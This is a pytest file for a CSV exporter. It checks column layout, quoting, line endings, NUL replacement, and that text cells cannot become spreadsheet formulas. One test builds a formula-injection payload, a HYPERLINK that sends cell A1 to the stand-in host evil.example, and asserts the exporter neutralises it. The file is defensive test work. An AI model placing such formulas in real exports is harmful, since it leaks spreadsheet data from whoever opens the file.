"""CSV: what a spreadsheet opens, and what it must not run."""

from __future__ import annotations

import csv
import io

import pytest
from support.ended_jobs import RECORD, record

from ktclient.exports import table
from ktclient.exports.record import Exported


def rows(*records: Exported, documents: bool = False, thoughts: bool = False) -> list[list[str]]:
    text = "".join(table.pieces(records, documents=documents, thoughts=thoughts))
    assert text.startswith("\ufeffid,state,")
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline="")))


def test_there_is_a_row_for_each_job_and_a_column_for_each_fact() -> None:
    """Numbers as numbers; texts with line ends and quotes in one cell; lines end as in RFC 4180."""
    answer = 'One "word", and\nanother line.'
    names, first, second = rows(RECORD, record(answer=answer, label="nightly"))
    assert dict(zip(names, first, strict=True)) | {"question": "Who came?"} == dict(
        zip(names, first, strict=True)
    )
    found = dict(zip(names, second, strict=True))
    assert (found["answer"], found["label"], found["seconds"]) == (answer, "nightly", "3.5")
    assert (found["prompt_tokens"], found["cached_tokens"]) == ("1200", "")
    assert "".join(table.pieces([RECORD])).count("\r\n") == 2


@pytest.mark.parametrize("begin", ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "－"])  # noqa: RUF001
@pytest.mark.promise
def test_no_text_cell_can_be_a_formula(begin: str) -> None:
    """Whichever column the text of a model, a document or a person is in."""
    evil = f'{begin}HYPERLINK("http://evil.example/"&A1,"x")'
    one = record(
        name=evil, text=evil, answer=evil, thoughts=evil, instruction=evil, label=evil, message=evil
    )
    names, row = rows(one, documents=True, thoughts=True)
    found = dict(zip(names, row, strict=True))
    for name in ("document", "document_text", "answer", "thoughts", "question", "label", "message"):
        assert found[name] == f"'{evil}", name
    assert not any(cell.startswith(begin) for cell in row)


def test_documents_and_thoughts_are_columns_only_where_they_were_asked_for() -> None:
    """A NUL is in no CSV."""
    one = record(text="a\0b", thoughts="Hm.")
    assert not {"document_text", "thoughts"} & set(rows(one)[0])
    names, row = rows(one, documents=True, thoughts=True)
    assert dict(zip(names, row, strict=True))["document_text"] == "a\ufffdb"
